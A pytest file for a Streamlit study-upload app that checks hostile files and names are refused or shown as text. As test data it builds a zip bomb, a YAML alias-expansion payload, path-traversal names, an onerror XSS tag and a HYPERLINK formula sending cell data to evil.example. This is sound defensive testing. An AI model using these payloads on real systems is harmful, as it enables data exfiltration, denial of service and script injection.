"""Files and names from outside: refused in words, or shown as text; never run, never unpacked without end."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from footprint_app.service import drafts, examples, studies, workspace
from footprint_app.service.configuration import Configuration, read_configuration
from footprint_app.service.draft_edits import DraftEdit
from footprint_app.service.examples import example_file

TAG = "<img src=x onerror=document.title='hacked'>"


def _bomb() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("xl/worksheets/sheet1.xml", b"0" * 310 * 2**20)
    return stream.getvalue()


def _with_formula() -> bytes:
    """The shipped workbook whose first amount is a formula that calls a program, as its author never calculated it."""
    from openpyxl import load_workbook

    with example_file(examples.DEMO) as path:
        book = load_workbook(path)
    sheet = book.worksheets[1]
    sheet["B6"] = '=HYPERLINK("http://evil.example/"&A1)'
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _bring(shown: AppTest, name: str, content: bytes) -> AppTest:
    return shown.file_uploader(key="study_file").upload(name, content, "application/octet-stream").run()


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("bomb.xlsx", _bomb),
        ("empty.xlsx", lambda: b""),
        ("program.xlsx", lambda: b"MZ\x90\x00" * 1000),
        ("entities.yaml", lambda: b"a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n"),
    ],
)
def test_what_is_no_study_is_refused(
    page: Callable[..., AppTest], configuration: Configuration, name: str, make: Callable[[], bytes]
) -> None:
    """A message and no draft, whatever is inside."""
    shown = _bring(page("studies", "en"), name, make())
    assert not shown.exception
    assert shown.error
    assert not drafts.list_drafts(configuration)


def test_a_formula_is_kept_as_what_it_is_and_never_sent_on(
    page: Callable[..., AppTest], configuration: Configuration, tmp_path: Path
) -> None:
    """Taken over with a finding, or refused; a file that is written from it holds no formula."""
    from openpyxl import load_workbook

    from footprint_app.service import study_files
    from footprint_app.service.errors import WrongUseError

    shown = _bring(page("studies", "en"), "formula.xlsx", _with_formula())
    assert not shown.exception
    for head in drafts.list_drafts(configuration):
        try:
            content = study_files.study_file(drafts.open_draft(configuration, head.draft_id), ".xlsx", "en")
        except WrongUseError:
            continue
        path = tmp_path / "out.xlsx"
        path.write_bytes(content)
        cells = [cell for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f" and "evil" in str(cell.value)]


@pytest.mark.parametrize("name", ["../../../evil.xlsx", "..\\..\\evil.xlsx", f"{TAG}.xlsx"])
def test_a_name_from_outside_names_no_place(
    page: Callable[..., AppTest], configuration: Configuration, home: Path, name: str
) -> None:
    """A workbook under a hostile name is read as any other, and nothing is written beside the workspace."""
    with example_file(examples.DEMO) as path:
        content = path.read_bytes()
    shown = _bring(page("studies", "en"), name, content)
    assert not shown.exception
    assert len(drafts.list_drafts(configuration)) == 1 or shown.error
    assert not list(home.rglob("evil*"))


@pytest.mark.browser
def test_html_in_a_name_is_shown_as_text(address: str, browser: Any) -> None:
    """Product, search and list: the mark-up stands there to be read and nothing of it runs."""
    configuration = read_configuration()
    workspace.init(configuration, workspace.workspace_folder(configuration))
    draft = drafts.begin_from_example(configuration, examples.DEMO, TAG)
    edit = DraftEdit("study", {"product.name_zh": {"value": TAG}, "study_id": {"value": "**x**<script>"}})
    drafts.edit(configuration, draft.head.draft_id, edit, 0, TAG)
    assert studies.overview(configuration)[0].title == TAG
    page = browser.new_page()
    for key in ("studies", "documents", "data"):
        page.goto(f"{address}/{key}?lang=en&study={draft.head.draft_id}&manage={draft.head.draft_id}")
        page.get_by_role("heading", level=1).wait_for(timeout=60_000)
        page.get_by_text(TAG).first.wait_for(timeout=60_000)
        assert page.locator("img[src=x]").count() == 0
        assert page.title() != "hacked"


@pytest.mark.browser
def test_an_upload_of_200_mb_is_refused(address: str, browser: Any, tmp_path: Path) -> None:
    """The page says the limit; nothing reaches the workspace."""
    configuration = read_configuration()
    workspace.init(configuration, workspace.workspace_folder(configuration))
    large = tmp_path / "large.xlsx"
    with large.open("wb") as stream:
        stream.truncate(200 * 2**20)
    page = browser.new_page()
    page.goto(f"{address}/studies?lang=en")
    page.get_by_role("heading", level=1).wait_for(timeout=60_000)
    page.locator("input[type=file]").first.set_input_files(large)
    page.get_by_text("50.0MB or smaller").or_(page.get_by_text("50MB or smaller")).first.wait_for(timeout=60_000)
    assert not drafts.list_drafts(configuration)
